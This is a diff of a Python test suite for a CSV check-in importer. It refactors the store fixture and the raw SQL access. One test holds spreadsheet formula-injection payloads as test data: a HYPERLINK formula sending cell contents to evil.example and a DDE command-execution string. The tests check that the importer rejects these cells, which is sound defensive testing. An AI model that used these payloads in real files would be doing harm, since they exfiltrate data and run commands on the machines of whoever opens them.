@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import sqlite3
 import unicodedata
 from collections.abc import Iterator
 from datetime import UTC, date, datetime
@@ -20,7 +19,8 @@ from doorscan.synthetic import cccd_text, health_text, make_people
 from doorscan.timefmt import to_ms
 from doorscan.wire import UnitRecord, VenueRecord
 from hub.csv_import import HEADER, HEADER_WITH_DEVICE, import_csv
-from hub.store import SqliteStore
+from hub.store import HubStore
+from tests.hubdb import raw_sql
 from tests.hubstore import open_store
 
 PEOPLE = make_people(6, seed=21)
@@ -61,13 +61,13 @@ def to_cp1258(text: str) -> bytes:
 
 
 @pytest.fixture
-def store(tmp_path: Path) -> Iterator[SqliteStore]:
-    with open_store(tmp_path / "hub.db") as opened:
+def store(hub_db: str) -> Iterator[HubStore]:
+    with open_store(hub_db) as opened:
         opened.upsert_venue(VenueRecord(venue_id="cho-pleiku", name="Chợ Pleiku"))
         yield opened
 
 
-def load(store: SqliteStore, path: Path, add_venues: bool = False) -> tuple[int, ...]:
+def load(store: HubStore, path: Path, add_venues: bool = False) -> tuple[int, ...]:
     report = import_csv(
         store, path, add_venues=add_venues, card_keys=SIGNER.keyring(), received_at=NOW
     )
@@ -83,7 +83,7 @@ def write(tmp_path: Path, content: str | bytes, name: str = "scans.csv") -> Path
     return path
 
 
-def test_a_good_file_loads(store: SqliteStore, tmp_path: Path) -> None:
+def test_a_good_file_loads(store: HubStore, tmp_path: Path) -> None:
     path = write(tmp_path, csv_text(good_rows()))
     assert load(store, path) == (3, 3, 0, 0)
     checkins = store.checkins_at("cho-pleiku", 0, to_ms(NOW))
@@ -97,7 +97,7 @@ def test_a_good_file_loads(store: SqliteStore, tmp_path: Path) -> None:
     assert all(c.scan_id.startswith("csv-") and len(c.scan_id) == 36 for c in checkins)
 
 
-def test_importing_twice_adds_nothing(store: SqliteStore, tmp_path: Path) -> None:
+def test_importing_twice_adds_nothing(store: HubStore, tmp_path: Path) -> None:
     path = write(tmp_path, csv_text(good_rows()))
     assert load(store, path) == (3, 3, 0, 0)
     assert load(store, path) == (3, 0, 3, 0)
@@ -107,13 +107,13 @@ def test_importing_twice_adds_nothing(store: SqliteStore, tmp_path: Path) -> Non
     assert load(store, again) == (3, 0, 3, 0)
 
 
-def test_bom_and_crlf_are_fine(store: SqliteStore, tmp_path: Path) -> None:
+def test_bom_and_crlf_are_fine(store: HubStore, tmp_path: Path) -> None:
     text = csv_text(good_rows()).replace("\n", "\r\n")
     path = write(tmp_path, b"\xef\xbb\xbf" + text.encode("utf-8"))
     assert load(store, path) == (3, 3, 0, 0)
 
 
-def test_a_file_that_is_not_utf8_is_refused_whole(store: SqliteStore, tmp_path: Path) -> None:
+def test_a_file_that_is_not_utf8_is_refused_whole(store: HubStore, tmp_path: Path) -> None:
     # What Excel on a Vietnamese Windows writes: cp1258, tones as combining marks.
     path = write(tmp_path, to_cp1258(csv_text(good_rows())))
     with pytest.raises(Refusal) as refused:
@@ -128,7 +128,7 @@ def test_a_file_that_is_not_utf8_is_refused_whole(store: SqliteStore, tmp_path: 
     assert store.counts()["scans"] == 0  # the good first row is not loaded either
 
 
-def test_broken_quoting_costs_one_row_named_by_line(store: SqliteStore, tmp_path: Path) -> None:
+def test_broken_quoting_costs_one_row_named_by_line(store: HubStore, tmp_path: Path) -> None:
     rows = good_rows()
     text = (
         f"{HEADER}\n"
@@ -147,7 +147,7 @@ def test_broken_quoting_costs_one_row_named_by_line(store: SqliteStore, tmp_path
     assert all("broken quoting" in message for _, message in report.errors)
 
 
-def test_unknown_venue_is_refused_unless_add_venues(store: SqliteStore, tmp_path: Path) -> None:
+def test_unknown_venue_is_refused_unless_add_venues(store: HubStore, tmp_path: Path) -> None:
     rows = [["ben-xe-duc-long", "2022-03-01T09:30:00+07:00", cccd_text(PEOPLE[2])]]
     path = write(tmp_path, csv_text(rows + good_rows()[:1]))
     report = import_csv(store, path, add_venues=False, card_keys=None, received_at=NOW)
@@ -161,7 +161,7 @@ def test_unknown_venue_is_refused_unless_add_venues(store: SqliteStore, tmp_path
     assert venue is not None and venue.name == "ben-xe-duc-long"
 
 
-def test_times_need_an_offset_and_must_be_plausible(store: SqliteStore, tmp_path: Path) -> None:
+def test_times_need_an_offset_and_must_be_plausible(store: HubStore, tmp_path: Path) -> None:
     qr = cccd_text(PEOPLE[3])
     rows = [
         ["cho-pleiku", "2022-03-01T09:30:00", qr],
@@ -180,7 +180,7 @@ def test_times_need_an_offset_and_must_be_plausible(store: SqliteStore, tmp_path
     assert "in the future" in messages[5]
 
 
-def test_formula_cells_stay_text_and_are_quoted_safely(store: SqliteStore, tmp_path: Path) -> None:
+def test_formula_cells_stay_text_and_are_quoted_safely(store: HubStore, tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
     rows = [
         ["cho-pleiku", "2022-03-01T09:30:00+07:00", formula],
@@ -199,15 +199,16 @@ def test_formula_cells_stay_text_and_are_quoted_safely(store: SqliteStore, tmp_p
     assert report.loaded == 0 and len(report.errors) == 5
     messages = dict(report.errors)
     assert "qr_text '=HYPERLINK(" in messages[2] and "not a CCCD" in messages[2]
-    assert "the name holds '='" in messages[3]
-    assert "the name holds '@'" in messages[4]
+    # The reason names the rule, never the visitor's text: '=' is a math symbol, '@' Po.
+    assert "the name holds a character of Unicode class Sm" in messages[3]
+    assert "the name holds a character of Unicode class Po" in messages[4]
     assert messages[5] == "venue id \"=cmd|' /C calc'!A0\" is not a valid id"
     assert "\\x1b" in messages[6]
     for message in messages.values():
         assert message[0] not in "=+-@" and message.isprintable()
 
 
-def test_header_must_be_exact(store: SqliteStore, tmp_path: Path) -> None:
+def test_header_must_be_exact(store: HubStore, tmp_path: Path) -> None:
     for header in ("venue,time,qr", "Venue_ID,scanned_at,qr_text", HEADER + ",extra", ""):
         path = write(tmp_path, csv_text(good_rows(), header=header))
         with pytest.raises(Refusal) as refused:
@@ -218,7 +219,7 @@ def test_header_must_be_exact(store: SqliteStore, tmp_path: Path) -> None:
         load(store, write(tmp_path, b""))
 
 
-def test_device_id_links_a_registered_unit(store: SqliteStore, tmp_path: Path) -> None:
+def test_device_id_links_a_registered_unit(store: HubStore, hub_db: str, tmp_path: Path) -> None:
     store.upsert_venue(VenueRecord(venue_id="benh-vien", name="Bệnh viện"))
     store.upsert_unit(UnitRecord(unit_id="u-cho-1", venue_id="cho-pleiku"))
     store.upsert_unit(UnitRecord(unit_id="u-bv-1", venue_id="benh-vien"))
@@ -241,15 +242,11 @@ def test_device_id_links_a_registered_unit(store: SqliteStore, tmp_path: Path) -
         (4, "device u-bv-1 is a unit of benh-vien, not cho-pleiku"),
         (5, "3 fields where the header has 4"),
     ]
-    raw = sqlite3.connect(store.path)
-    try:
-        units = raw.execute("SELECT unit_id, source FROM scans ORDER BY scanned_at_ms").fetchall()
-    finally:
-        raw.close()
+    units = raw_sql(hub_db, "SELECT unit_id, source FROM scans ORDER BY scanned_at_ms")
     assert units == [("u-cho-1", "csv"), (None, "csv")]
 
 
-def test_cards_need_a_key(store: SqliteStore, tmp_path: Path) -> None:
+def test_cards_need_a_key(store: HubStore, tmp_path: Path) -> None:
     path = write(tmp_path, csv_text(good_rows()[2:]))
     report = import_csv(store, path, add_venues=False, card_keys=None, received_at=NOW)
     assert report.loaded == 0 and "not accepted here" in report.errors[0][1]
@@ -271,7 +268,7 @@ def test_cards_need_a_key(store: SqliteStore, tmp_path: Path) -> None:
     )
 )
 def test_fuzz_any_file_is_refused_whole_or_row_by_row(
-    store: SqliteStore, tmp_path: Path, body: str | bytes
+    store: HubStore, tmp_path: Path, body: str | bytes
 ) -> None:
     path = write(tmp_path, body)
     try:
